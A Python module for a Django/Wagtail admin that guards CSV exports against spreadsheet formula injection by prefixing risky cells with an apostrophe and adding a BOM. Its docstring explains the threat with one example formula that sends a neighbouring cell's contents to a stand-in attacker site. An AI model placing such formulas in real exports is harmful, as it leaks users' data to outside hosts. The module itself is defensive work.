"""Spreadsheet exports that are safe to open: no cell is read as a formula.

A spreadsheet program runs a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage
return as a formula (`=HYPERLINK("http://evil.example/?"&B2,"x")` sends a neighbouring cell to
another site). Every text cell that starts so gets a leading apostrophe in CSV (OWASP's advice);
XLSX cells are written as strings (Wagtail already forces that). CSV files start with a BOM so
that Excel reads ë and ç as UTF-8.
"""

import csv
import io

from django.http import HttpResponse

from wagtail.admin.views.generic import IndexView

from core.adminfilters import AlbanianOrderFilterSet

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
BOM = "\ufeff"


def safe_cell(value):
    """The value, with a leading apostrophe when a spreadsheet would read it as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_text(header, rows):
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow([safe_cell(cell) for cell in header])
    for row in rows:
        writer.writerow([safe_cell("" if cell is None else cell) for cell in row])
    return BOM + buffer.getvalue()


def csv_response(filename, header, rows):
    """An attachment `filename` (UTF-8 with a BOM), every cell through `safe_cell`."""
    response = HttpResponse(csv_text(header, rows), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


class SafeSpreadsheetExportMixin:
    """For Wagtail's SpreadsheetExportMixin views: every CSV cell through `safe_cell`, and a
    BOM first."""

    def preprocess_field_value(self, field, value, export_format):
        value = super().preprocess_field_value(field, value, export_format)
        return safe_cell(value) if export_format == self.FORMAT_CSV else value

    def stream_csv(self, queryset):
        yield BOM
        yield from super().stream_csv(queryset)

    def write_csv_response(self, queryset):
        response = super().write_csv_response(queryset)
        response["Content-Type"] = "text/csv; charset=utf-8"
        return response


class SafeIndexView(SafeSpreadsheetExportMixin, IndexView):
    """The index view for ModelViewSets that export personal data (`index_view_class`)."""

    base_filterset_class = AlbanianOrderFilterSet  # places and organisations in Albanian order
